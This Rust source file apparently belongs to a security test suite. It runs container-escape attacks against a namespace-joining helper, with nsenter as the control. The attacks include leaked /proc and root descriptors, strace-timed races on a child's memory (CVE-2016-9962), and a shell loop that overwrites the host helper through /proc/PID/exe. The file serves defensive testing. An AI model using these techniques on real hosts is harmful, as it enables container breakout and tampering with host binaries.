//! Descriptors and other handles that lead from the target to the host.

use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::Duration;

use crate::Attack;
use crate::arm::{
    ADMIN, Arm, DEFAULT, Fault, Host, Outcome, STRICT, Tool, answer, bounded, broken, install,
    nsexec, program, refused, with_open,
};
use crate::running::Running;
use crate::support::{Build, Target, protocol_a, temporary_directory, text};

pub(crate) const ATTACKS: &[Attack] = &[
    Attack {
        name: "descriptor-of-proc",
        tries: "read the host's files through a descriptor that the child has open",
        control: Tool::Other("nsenter, whose caller has /proc open"),
        ways: &[DEFAULT, STRICT, ADMIN],
        run: |tool| {
            reach_child(
                tool,
                if tool.is_nsexec() {
                    "/dev/null"
                } else {
                    "/proc"
                },
            )
        },
        quick: true,
    },
    Attack {
        name: "descriptor-of-proc-runtime",
        tries: "the same, while a runtime's initConfig is awaited",
        control: Tool::Other("nsenter, whose caller has /proc open"),
        ways: &[Tool::ProtocolA],
        run: |tool| match tool {
            Tool::ProtocolA => reach_protocol_a(),
            _ => reach_child(tool, "/proc"),
        },
        quick: true,
    },
    Attack {
        name: "descriptor-of-caller",
        tries: "the same, through a descriptor of the caller's before the exec",
        control: Tool::Nsenter,
        ways: &[DEFAULT, STRICT, ADMIN],
        run: |tool| reach_child(tool, "/"),
        quick: true,
    },
    Attack {
        name: "descriptor-in-program",
        tries: "the same, through a descriptor of the caller's in the program",
        control: Tool::Nsenter,
        ways: &[DEFAULT, STRICT, ADMIN],
        run: descriptor_in_program,
        quick: true,
    },
    Attack {
        name: "directory-on-stdin",
        tries: "leave through a directory of the host's on standard input",
        control: Tool::Nsenter,
        ways: &[DEFAULT, STRICT, ADMIN],
        run: directory_on_stdin,
        quick: true,
    },
    Attack {
        name: "namespace-on-stdin",
        tries: "leave through a mount namespace of the host's on standard input",
        control: Tool::Nsenter,
        ways: &[DEFAULT, STRICT, ADMIN],
        run: namespace_on_stdin,
        quick: true,
    },
    Attack {
        name: "memory-of-child",
        tries: "write the memory of the child before it becomes the program",
        control: Tool::Nsenter,
        ways: &[DEFAULT, STRICT, ADMIN],
        run: memory_of_child,
        quick: false,
    },
    Attack {
        name: "dumpable-once",
        tries: "the same, in a user namespace, while oom_score_adj is written",
        control: Tool::Other("a joiner that is dumpable once"),
        ways: &[Tool::ProtocolA],
        run: dumpable_once,
        quick: true,
    },
    Attack {
        name: "own-file",
        tries: "overwrite the host's helper through /proc/PID/exe",
        control: Tool::Nsenter,
        ways: &[DEFAULT, ADMIN],
        run: own_file,
        quick: false,
    },
    Attack {
        name: "own-file-executed",
        tries: "have the helper executed again, by #!/proc/self/exe",
        control: Tool::BusyboxNsenter,
        ways: &[DEFAULT, STRICT],
        run: |tool| own_file_executed(tool, "/bin/evil"),
        quick: true,
    },
    Attack {
        name: "own-file-by-link",
        tries: "the same, by a link to /proc/self/exe",
        control: Tool::BusyboxNsenter,
        ways: &[DEFAULT, STRICT],
        run: |tool| own_file_executed(tool, "/bin/itself"),
        quick: true,
    },
    Attack {
        name: "program-by-descriptor",
        tries: "execute a program of the host's through a declared descriptor",
        control: Tool::Nsenter,
        ways: &[DEFAULT],
        run: |tool| by_descriptor(tool, &["-a"], "/proc/self/fd/3/hostile"),
        quick: true,
    },
    Attack {
        name: "directory-by-descriptor",
        tries: "start in a directory of the host's: -W /proc/self/fd/3",
        control: CD,
        ways: &[DEFAULT, ADMIN],
        run: |tool| by_descriptor(tool, &["-a", "-W", "/proc/self/fd/3"], "/bin/hostile"),
        quick: true,
    },
    Attack {
        name: "session-keyring",
        tries: "read a key of the caller's session keyring",
        control: Tool::Nsenter,
        ways: &[DEFAULT, STRICT, ADMIN],
        run: session_keyring,
        quick: true,
    },
];

/// A hostile program that waits in the target, with all capabilities or without
/// CAP_SYS_PTRACE.
fn wait_inside(target: &Target, prefix: &[&str], words: &[&str]) -> Running {
    install(target, "reach");
    let words = [&["/bin/reach"], words].concat();
    let mut command = Tool::Nsenter.enter_by(prefix, target.pid(), &["-a"], &words);
    let running = Running::start(&mut command);
    // It scans the processes from the start, so it has to run before the helper.
    std::thread::sleep(Duration::from_millis(50));
    running
}

/// The output of the attacker after it has ended.
fn printed(attacker: Running) -> Arm {
    answer(&attacker.output()?)
}

/// strace(1) that delays each process: by a third of a second before execve, and by a few
/// milliseconds before each other call.
const SLOW: [&str; 8] = [
    "strace",
    "-f",
    "-qq",
    "-o",
    "/dev/null",
    "-einject=execve:delay_enter=300000",
    "-einject=close,read,prctl,setns:delay_enter=4000",
    "--",
];

/// A tracer in the target, with CAP_SYS_PTRACE, attacks the child of a join. The caller has
/// the file `open` open.
fn reach_child(tool: Tool, open: &str) -> Arm {
    let host = Host::new();
    let target = Target::new();
    let (enter, name) = if tool.is_nsexec() {
        (tool, "nsexec")
    } else {
        (Tool::Nsenter, "nsenter")
    };
    let attacker = wait_inside(&target, &[], &["paths", name, &host.path("secret")]);
    let slow = enter.enter_by(&SLOW, target.pid(), &["-a"], &["/bin/true"]);
    let output = bounded(&mut with_open(9, open, slow))?;
    if !output.status.success() {
        return broken(format!("{output:?}"));
    }
    printed(attacker)
}

/// The child of protocol A waits as long as the runtime does not send initConfig.
fn reach_protocol_a() -> Arm {
    let host = Host::new();
    let target = Target::new();
    let attacker = wait_inside(&target, &[], &["paths", "nsexec", &host.path("secret")]);
    let mut exec = protocol_a::Exec::into(target.pid());
    exec.program = nsexec();
    let message = format!("{}\n", protocol_a::config(&["true"]));
    let pause = |_| std::thread::sleep(Duration::from_millis(500));
    protocol_a::assert_success(&exec.run_meanwhile(message.as_bytes(), pause));
    printed(attacker)
}

fn descriptor_in_program(tool: Tool) -> Arm {
    let host = Host::new();
    let target = Target::new();
    install(&target, "hostile");
    let path = format!("/proc/self/fd/9{}", host.path("secret"));
    let command = tool.enter(target.pid(), &["-a"], &["/bin/hostile", "read", &path]);
    answer(&bounded(&mut with_open(9, "/", command))?)
}

fn directory_on_stdin(tool: Tool) -> Arm {
    let host = Host::new();
    let target = Target::new();
    install(&target, "hostile");
    let path = format!("/proc/self/fd/0{}", host.path("secret"));
    let mut command = tool.enter(target.pid(), &["-a"], &["/bin/hostile", "read", &path]);
    let root = fs::File::open("/").expect("the host's root");
    let output = bounded(command.stdin(root))?;
    answer(&output).or_else(|fault| match tool.is_nsexec() {
        true => refused(&output, &["directory"]),
        false => Err(fault),
    })
}

fn namespace_on_stdin(tool: Tool) -> Arm {
    let host = Host::new();
    let target = Target::new();
    install(&target, "hostile");
    let secret = host.path("secret");
    let words = ["/bin/hostile", "read-joined", "0", &secret];
    let mut command = tool.enter(target.pid(), &["-a"], &words);
    let namespace = fs::File::open("/proc/self/ns/mnt").expect("the host's mount namespace");
    let output = bounded(command.stdin(namespace))?;
    answer(&output).or_else(|fault| match tool.is_nsexec() {
        true => refused(&output, &["namespace"]),
        false => Err(fault),
    })
}

/// Options of setpriv(1): root with every capability but CAP_SYS_PTRACE.
const WITHOUT_PTRACE: [&str; 3] = [
    "setpriv",
    "--bounding-set=-sys_ptrace",
    "--inh-caps=-sys_ptrace",
];

/// CVE-2016-9962: root in the target, without CAP_SYS_PTRACE.
fn memory_of_child(tool: Tool) -> Arm {
    let target = Target::build(&Build {
        prefix: WITHOUT_PTRACE.to_vec(),
        ..Build::default()
    });
    let name = if tool.is_nsexec() {
        "nsexec"
    } else {
        "nsenter"
    };
    let attacker = wait_inside(&target, &WITHOUT_PTRACE, &["memory", name, "-"]);
    // A process with capabilities that the attacker lacks is protected by the kernel
    // anyway.
    let prefix = [&WITHOUT_PTRACE[..], &SLOW].concat();
    let output = bounded(&mut tool.enter_by(&prefix, target.pid(), &["-a"], &["/bin/true"]))?;
    if !output.status.success() {
        return broken(format!("{output:?}"));
    }
    printed(attacker)
}

/// Root of the target's user namespace attacks a child whose prctl(2) is delayed.
fn dumpable_once(tool: Tool) -> Arm {
    let target = Target::with_user_namespace();
    if tool != Tool::ProtocolA {
        let attacker = wait_inside(&target, &[], &["memory", "dumpable", "-"]);
        let mut joiner = Command::new(program("dumpable"));
        let output = bounded(joiner.arg(target.pid().to_string()))?;
        if !output.status.success() {
            return broken(format!("{output:?}"));
        }
        return printed(attacker);
    }
    let attacker = wait_inside(&target, &[], &["memory", "nsexec", "-"]);
    let mut exec = protocol_a::Exec::into(target.pid());
    exec.program = nsexec();
    exec.owner = Some(crate::support::OUTSIDE);
    let mut config = protocol_a::config(&["true"]);
    config["config"]["oom_score_adj"] = 700.into();
    let mut tracer = None;
    let outcome = exec.run_meanwhile(format!("{config}\n").as_bytes(), |child| {
        let mut strace = Command::new("strace");
        strace.args([
            "-qq",
            "-o",
            "/dev/null",
            "-einject=prctl:delay_exit=100000",
            "-p",
        ]);
        strace.arg(child.to_string()).stdin(Stdio::null());
        tracer = Some(Running::start(&mut strace));
        std::thread::sleep(Duration::from_millis(300));
    });
    drop(tracer);
    protocol_a::assert_success(&outcome);
    printed(attacker)
}

/// Opens /proc/CHILD/exe of each entering process, and writes through that descriptor after
/// the process has ended.
const OVERWRITE: &str = r#"
    n=0
    while [ $n -lt 500 ]; do
        for p in /proc/[0-9]*; do
            grep -qE '^(helper|nsexec)$' $p/comm 2>/dev/null || continue
            exec 5<$p/exe || continue
            while kill -0 ${p#/proc/} 2>/dev/null; do usleep 10000; done
            # As long as somebody executes it, a file is not written to.
            tries=0
            while [ $tries -lt 100 ]; do
                if ( echo overwritten > /proc/self/fd/5 ) 2>/tmp/why; then break; fi
                usleep 10000; tries=$((tries+1))
            done
            read why < /tmp/why; echo "denied open ${why##*: }"; exit
        done
        usleep 1000; n=$((n+1))
    done
"#;

/// A copy of a program in its own directory, named helper.
fn copy(program: &Path, directory: &Path) -> String {
    let path = directory.join("helper");
    fs::copy(program, &path).expect("a copy");
    fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).expect("a mode");
    path.display().to_string()
}

fn own_file(tool: Tool) -> Arm {
    let directory = temporary_directory("own-file");
    let original = match tool {
        Tool::Nsenter => "/usr/bin/nsenter".into(),
        _ => nsexec(),
    };
    let helper = copy(&original, &directory);
    let target = Target::new();
    let words = ["sh", "-c", OVERWRITE];
    let mut inside = Tool::Nsenter.enter(target.pid(), &["-a"], &words);
    let attacker = Running::start(&mut inside);
    let mut slow = Command::new("strace");
    slow.args(&SLOW[1..]).arg(&helper);
    if let Tool::Nsexec(policy) = tool {
        slow.args(["--policy", policy]);
    }
    slow.args(["-t", &target.pid().to_string(), "-a", "--", "/bin/true"]);
    let output = bounded(slow.stdin(Stdio::null()))?;
    let attacker = attacker.output()?;
    let overwritten = fs::read(&helper).expect("the helper") != fs::read(&original).expect("it");
    fs::remove_dir_all(directory).expect("the directory");
    if overwritten {
        return Ok(Outcome::Harm("the file was overwritten".to_owned()));
    }
    if !output.status.success() {
        return broken(format!("{output:?}"));
    }
    answer(&attacker)
}

/// A program of the target with the content of the helper.
fn own_file_executed(tool: Tool, program: &str) -> Arm {
    let target = Target::with_script(
        "printf '#!/proc/self/exe\\n' > /bin/evil; chmod +x /bin/evil; ln -s /proc/self/exe /bin/itself",
    );
    let output = bounded(&mut tool.enter(target.pid(), &["-a"], &[program]))?;
    let printed = text(&[output.stdout.as_slice(), &output.stderr].concat());
    if printed.contains("BusyBox") || printed.contains("applet not found") {
        return Ok(Outcome::Harm(
            "the host's helper ran in the target".to_owned(),
        ));
    }
    let reasons = ["Permission denied", "permission denied"];
    refused(&output, &reasons)
}

/// The caller's directory is one whose path the attacker can guess.
const CD: Tool = Tool::Other("nsenter, and cd in the target");

/// The caller has a directory of the host open as descriptor 3, and declares it.
fn by_descriptor(tool: Tool, options: &[&str], path: &str) -> Arm {
    let host = Host::new();
    fs::copy(program("hostile"), host.path("hostile")).expect("a copy");
    let target = Target::new();
    install(&target, "hostile");
    let declared: &[&str] = if tool.is_nsexec() {
        &["--preserve-fds", "1"]
    } else {
        &[]
    };
    let options = [options, declared].concat();
    // The directory of the host is once a program's file and once a working directory.
    let words: &[&str] = match path {
        "/bin/hostile" => &[path, "read", "secret"],
        _ => &[path, "executed"],
    };
    let command = if tool == CD {
        let script = "cd /proc/self/fd/3 && exec /bin/hostile read secret";
        Tool::Nsenter.enter(target.pid(), &["-a"], &["sh", "-c", script])
    } else {
        tool.enter(target.pid(), &options, words)
    };
    let directory = host.directory().display().to_string();
    let output: Output = bounded(&mut with_open(3, &directory, command))?;
    match answer(&output) {
        Err(Fault::Broken(_)) if tool.is_nsexec() => refused(
            &output,
            &["EACCES", "Permission denied", "/proc/self/fd/3", "ELOOP"],
        ),
        other => other,
    }
}

fn session_keyring(tool: Tool) -> Arm {
    let target = Target::new();
    install(&target, "hostile");
    let hostile_here = program("hostile").display().to_string();
    let prefix = [
        hostile_here.as_str(),
        "key-session",
        "nsexec-attack",
        "of-the-host",
    ];
    let words = ["/bin/hostile", "key", "nsexec-attack"];
    let mut command = tool.enter_by(&prefix, target.pid(), &["-a"], &words);
    answer(&bounded(&mut command)?)
}
